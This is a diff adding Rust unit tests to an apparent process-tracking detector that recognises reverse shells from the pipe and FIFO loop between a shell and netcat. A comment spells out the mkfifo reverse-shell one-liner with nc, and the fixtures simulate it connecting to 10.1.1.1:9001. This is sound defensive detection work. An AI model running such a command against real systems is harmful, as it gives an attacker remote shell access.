@@ -292,3 +292,87 @@ fn dup_of_a_pipe_over_the_socket_clears_own_binding() {
     t.apply(dup(3, 90, 0, fd(FdKind::Pipe, 8)));
     assert_eq!(via(&t, 90), None);
 }
+
+/// The canonical `cat /tmp/f | /bin/sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO by
+/// name (fd 3, invisible), so the evidence is the loop shape on fds 0-2: the shell's stdout
+/// is nc's stdin pipe, nc writes the peer's data into a FIFO, the shell reads a pipe.
+fn canonical_mkfifo(relay_connects_first: bool) -> (ProcessTable, Applied) {
+    let mut t = table();
+    let (fifo, p1, p2) = (700, 701, 702);
+    let null = fd(FdKind::Char, 5);
+    t.apply(
+        ExecBuilder::new(1, 60, 1, "/bin/sh")
+            .container(C, "web", "img")
+            .event(),
+    );
+    for pid in [61, 62, 63] {
+        t.apply(fork(2, pid, 60));
+    }
+    let cat = ExecBuilder::new(3, 61, 60, "/bin/cat")
+        .args(&["cat", "/tmp/f"])
+        .stdio(0, null.clone())
+        .stdio(1, fd(FdKind::Pipe, p1))
+        .container(C, "web", "img")
+        .event();
+    let sh = ExecBuilder::new(3, 62, 60, "/bin/sh")
+        .args(&["/bin/sh", "-i"])
+        .stdio(0, fd(FdKind::Pipe, p1))
+        .stdio(1, fd(FdKind::Pipe, p2))
+        .stdio(2, fd(FdKind::Pipe, p2))
+        .container(C, "web", "img")
+        .event();
+    let nc = ExecBuilder::new(3, 63, 60, "/bin/nc")
+        .args(&["nc", "10.1.1.1", "9001"])
+        .stdio(0, fd(FdKind::Pipe, p2))
+        .stdio(1, fd(FdKind::Fifo, fifo))
+        .container(C, "web", "img")
+        .event();
+    let conn = connect(4, 63, 70, "10.0.0.2:40000", "10.1.1.1:9001");
+    let last = if relay_connects_first {
+        t.apply(nc);
+        t.apply(conn);
+        t.apply(cat);
+        t.apply(sh)
+    } else {
+        t.apply(cat);
+        t.apply(sh);
+        t.apply(nc);
+        t.apply(conn)
+    };
+    (t, last)
+}
+
+#[test]
+fn canonical_mkfifo_pipeline_binds_the_shell_through_the_loop() {
+    for first in [true, false] {
+        let (t, last) = canonical_mkfifo(first);
+        assert_eq!(via(&t, 62), Some(BindVia::PipeLoop), "relay first: {first}");
+        assert_eq!(origin(&t, 62), Some(63));
+        assert!(t.get(62).unwrap().bound_by_pipe);
+        assert_eq!(via(&t, 61), None, "cat reads /dev/null on stdin");
+        assert_eq!(via(&t, 60), None);
+        if !first {
+            assert_eq!(last.newly_bound, vec![62], "bound when nc connects");
+        }
+    }
+}
+
+#[test]
+fn a_relay_writing_to_a_terminal_closes_no_loop() {
+    // `sh -c 'ls' | nc H P`: output sent out, nothing comes back into a pipe.
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 80, 1, "/bin/sh")
+            .stdio(0, fd(FdKind::Pipe, 5))
+            .stdio(1, fd(FdKind::Pipe, 6))
+            .event(),
+    );
+    t.apply(
+        ExecBuilder::new(1, 81, 1, "/bin/nc")
+            .stdio(0, fd(FdKind::Pipe, 6))
+            .event(),
+    );
+    let a = t.apply(connect(2, 81, 9, "10.0.0.1:1", "10.0.0.2:2"));
+    assert!(a.newly_bound.is_empty());
+    assert_eq!(via(&t, 80), None);
+}
